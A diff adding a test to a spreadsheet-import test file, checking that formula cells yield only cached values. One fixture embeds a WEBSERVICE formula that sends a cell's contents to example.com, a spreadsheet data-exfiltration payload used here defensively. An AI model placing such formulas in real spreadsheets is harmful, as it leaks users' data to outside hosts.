@@ -1,9 +1,33 @@
 import { zipSync } from 'fflate'
 import { headingNames } from '@desk/shared/accounts/heading-names'
 import { joinerFields } from '@desk/shared/accounts/joiner-fields'
+import { readSheet } from 'read-excel-file/universal'
 import { describe, expect, it } from 'vitest'
 import { archiveFault } from './check-archive.ts'
-import { readCells, splitPasted } from './read-cells.ts'
+import { readCells, type SheetCell, splitPasted } from './read-cells.ts'
+
+const OFFICE = 'http://schemas.openxmlformats.org'
+
+/** Returns an XLSX file with one sheet: the inner XML of each cell, and its type. */
+function workbookOf(rows: readonly (readonly { type: string; xml: string }[])[]): ArrayBuffer {
+  const lines = rows.map((cells, row) => {
+    const no = String(row + 1)
+    const inLine = cells.map(
+      ({ type, xml }, column) => `<c r="${'ABCDEFG'.charAt(column)}${no}" t="${type}">${xml}</c>`,
+    )
+    return `<row r="${no}">${inLine.join('')}</row>`
+  })
+  const main = `xmlns="${OFFICE}/spreadsheetml/2006/main"`
+  const relationships = `${OFFICE}/officeDocument/2006/relationships`
+  const files = {
+    'xl/workbook.xml': `<workbook ${main} xmlns:r="${relationships}"><sheets><sheet name="入职" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${OFFICE}/package/2006/relationships"><Relationship Id="rId1" Type="${relationships}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+    'xl/worksheets/sheet1.xml': `<worksheet ${main}><sheetData>${lines.join('')}</sheetData></worksheet>`,
+  }
+  const encoder = new TextEncoder()
+  const bytes = Object.fromEntries(Object.entries(files).map(([name, xml]) => [name, encoder.encode(xml)]))
+  return Uint8Array.from(zipSync(bytes)).buffer
+}
 
 describe('readCells', () => {
   it('columns are found by their own or foreign names below other lines, and other columns are not read', () => {
@@ -20,6 +44,24 @@ describe('readCells', () => {
       { no: 3, name: '贺铭', department: '数控一班', mobile: '13812342046', startsOn: '2026-03-23' },
     ])
     expect(JSON.stringify(result.rows)).not.toContain('440300199001011234')
+  })
+
+  it('a formula is read as the value that its sheet has of it, and as nothing where it has none', async () => {
+    const text = (value: string) => ({ type: 'inlineStr', xml: `<is><t>${value}</t></is>` })
+    const file = workbookOf([
+      ['姓名', '部门', '手机', '岗位'].map(text),
+      [
+        { type: 'str', xml: '<f>CONCATENATE("贺","铭")</f><v>贺铭</v>' },
+        text('数控一班'),
+        { type: 'n', xml: '<f>13812342000+46</f><v>13812342046</v>' },
+        { type: 'str', xml: '<f>WEBSERVICE("https://example.com/?q="&amp;A2)</f>' },
+      ],
+    ])
+    const result = readCells((await readSheet(file)) as SheetCell[][])
+    expect(result).toMatchObject({
+      rows: [{ no: 2, name: '贺铭', department: '数控一班', mobile: '13812342046', position: '' }],
+    })
+    expect(JSON.stringify(result)).not.toMatch(/CONCATENATE|WEBSERVICE|example\.com/)
   })
 
   it('every heading of the template names its own field', () => {
